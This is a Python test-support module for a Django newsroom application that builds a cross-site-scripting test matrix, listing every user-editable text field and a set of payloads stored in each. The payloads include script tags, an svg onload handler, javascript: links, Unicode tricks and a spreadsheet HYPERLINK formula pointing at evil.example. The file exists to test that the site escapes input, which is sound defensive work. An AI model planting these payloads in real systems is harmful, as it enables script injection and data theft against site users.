"""The XSS matrix's rows: the hostile payloads, and every text field a user can set, found by reading the models.

``text_fields()`` walks every model of the apps below and returns each CharField/TextField (so a field added later is
in the matrix the day it is added); ``classify()`` sorts them into the ones the matrix fills with a payload
(``COVERED``) and the ones it leaves out, each with its reason. A field that is in neither is an error the test
reports by name: whoever adds a text field decides, in this file, whether readers or staff can be attacked through it.
"""

from __future__ import annotations

from dataclasses import dataclass

# The apps whose models hold what people type: ours, the accounts (names in audit and history), the tags.
APPS = ("articles", "auth", "taggit", "reversion")

# Each payload carries ``{m}``, a marker unique to the field it is stored in, so a page that shows it can be told
# which field it came from (and a search can find it: a marker is one word). ``zz`` + two digits never occurs in
# Indonesian or English text.
PAYLOADS: dict[str, str] = {
    "script": "<script>alert('{m}')</script>",
    "svg_onload": "\"><svg onload=alert('{m}')>",
    "javascript_link": "<a href=\"javascript:alert('{m}')\">{m}</a> javascript:alert(1)",
    "script_end_in_json": "</script><script>alert('{m}')</script><!--",
    "quote_marks": '{m} \' " ` &quot; &#39; \\" </ <!-- -->',
    "control_chars": "{m} \x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x85\ufffe\uffff end",
    "rtl_override": "{m} \u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200f",
    "formula": '=HYPERLINK("https://evil.example/?{m}","x")',
    "long": "{m} " + "<i>x</i>&amp; " * 800,  # padded to exactly LONG_LENGTH below
}
LONG_LENGTH = 10_000
# What the pages are compared with: the same content with plain words, rendered the same way.
HARMLESS = "Warga {m} menonton pawai"

# Characters XML 1.0 cannot carry at all (the C0 controls but tab, newline and carriage return).
XML_FORBIDDEN = {chr(code) for code in range(0x20)} - {"\t", "\n", "\r"}


def payload_text(name: str) -> str:
    text = HARMLESS if name == "harmless" else PAYLOADS[name]
    if name == "long":
        text = (text * 2)[:LONG_LENGTH]
    return text


@dataclass(frozen=True)
class TextField:
    model: str  # "articles.Article"
    name: str
    max_length: int | None

    @property
    def key(self) -> str:
        return f"{self.model}.{self.name}"


# Fields the matrix fills with every payload: what a desk member (or an import) can type, shown to readers or staff.
COVERED = {
    "articles.Article.kicker",
    "articles.Article.headline",
    "articles.Article.dek",
    "articles.Article.seo_title",
    "articles.Article.seo_description",
    "articles.Article.social_title",
    "articles.Article.body",
    "articles.Section.name",
    "articles.Section.name_en",
    "articles.Contributor.name",
    "articles.Contributor.title",
    "articles.Contributor.bio",
    "articles.Photo.caption",
    "articles.Photo.credit",
    "articles.Photo.source",
    "articles.Photo.copyright_notice",
    "articles.Photo.alt_text",
    "articles.Photo.moderation_note",
    "articles.Photo.usage_terms",
    "articles.ArticlePhoto.caption",
    "articles.Quote.text",
    "articles.Quote.speaker_title",
    "articles.Source.name",
    "articles.Source.title",
    "articles.Source.organisation",
    "articles.SourceTitle.title",
    "articles.SourceTitle.organisation",
    "articles.EditorialNote.text",
    "articles.Correction.text",
    "articles.BreakingNews.text",
    "articles.AuditEntry.note",  # the reason the photo desk types when it rejects a credit
    "auth.User.username",
    "auth.User.first_name",
    "auth.User.last_name",
    "auth.Group.name",
    "taggit.Tag.name",
    # The photo desk's agency table (its admin: articles/admin/agencies.py).
    "articles.Agency.name",
    "articles.Agency.credit_name",
    "articles.Agency.aliases",
    "articles.Agency.usage_terms",
}

# Fields left out, each with the reason. Fields with choices and fields no form edits are left out by rule (below).
EXCLUDED = {
    "articles.Article.slug": "a SlugField: every form accepts only letters, digits, - and _ (tested below)",
    "articles.Section.slug": "a SlugField (letters, digits, - and _ only)",
    "articles.Contributor.slug": "a SlugField (letters, digits, - and _ only)",
    "articles.ArticleRedirect.slug": "copied from the story's old slug by the code",
    "articles.Source.suggestion_reason": (
        "words copied by the code (articles/text/source_kinds.py) from Source.title and Source.organisation, both "
        "covered; no form edits it, and the admin shows it escaped"
    ),
    "articles.AuditEntry.object_repr": "copied from the record's name by AuditEntry.record: the headline payload",
    "articles.AuditEntry.from_state": "a state code written by the workflow",
    "articles.AuditEntry.to_state": "a state code written by the workflow",
    "auth.User.password": "stored hashed, never shown",
    "auth.User.email": "an EmailField: every form validates it as an address",
    "auth.Permission.name": "defined in the code (Meta.permissions), never typed",
    "auth.Permission.codename": "defined in the code (Meta.permissions), never typed",
    "taggit.Tag.slug": "made from the name by taggit (slugify)",
    "reversion.Revision.comment": "written by the code: the transition's name or the admin's change message",
    "reversion.Version.object_id": "written by django-reversion",
    "reversion.Version.db": "written by django-reversion",
    "reversion.Version.format": "written by django-reversion",
    "reversion.Version.serialized_data": "written by django-reversion (the fields above, serialised as JSON)",
    "reversion.Version.object_repr": "copied from the record's name by django-reversion: the headline payload",
    "articles.Notification.text": (
        "a copy of a send-back note or an editorial note (the workflow note and EditorialNote.text are covered), "
        "shown only in the inbox (and plain-text emails): tests/test_notifications.py puts every payload there"
    ),
}

RULE_CHOICES = "has choices: forms accept only the listed codes"
RULE_NOT_EDITABLE = "editable=False: written by the code, never by a form"


def text_fields() -> list[TextField]:
    """Every CharField and TextField (EmailField, SlugField and the body's ProseEditorField included) of APPS."""
    from django.apps import apps
    from django.db import models

    found = []
    for app in APPS:
        for model in apps.get_app_config(app).get_models():
            for field in model._meta.get_fields():
                if isinstance(field, models.CharField | models.TextField):
                    found.append(TextField(model._meta.label, field.name, field.max_length))
    return found


def classify() -> tuple[list[TextField], dict[str, str], list[str]]:
    """(covered fields, excluded fields with reasons, names neither covered nor excluded — an error)."""
    from django.apps import apps

    covered, excluded, unknown = [], {}, []
    for field in text_fields():
        model_field = apps.get_model(field.model)._meta.get_field(field.name)
        if field.key in COVERED:
            covered.append(field)
        elif field.key in EXCLUDED:
            excluded[field.key] = EXCLUDED[field.key]
        elif model_field.choices:
            excluded[field.key] = RULE_CHOICES
        elif not model_field.editable:
            excluded[field.key] = RULE_NOT_EDITABLE
        else:
            unknown.append(field.key)
    return covered, excluded, unknown


def marker(index: int) -> str:
    return f"zz{index:02d}"


def markers(fields: list[TextField]) -> dict[str, str]:
    """Field key → its marker, numbered in a fixed order (the covered list sorted)."""
    return {field.key: marker(index) for index, field in enumerate(sorted(fields, key=lambda f: f.key))}


def value_for(payload: str, field: TextField, field_marker: str) -> str:
    """The payload as stored in this field: with the field's marker, cut to the field's length (a form accepts no
    more; the admin test posts the whole payload and expects a form error instead)."""
    text = payload_text(payload).replace("{m}", field_marker)
    if payload == "long":
        text = text[:LONG_LENGTH]
    return text[: field.max_length] if field.max_length else text
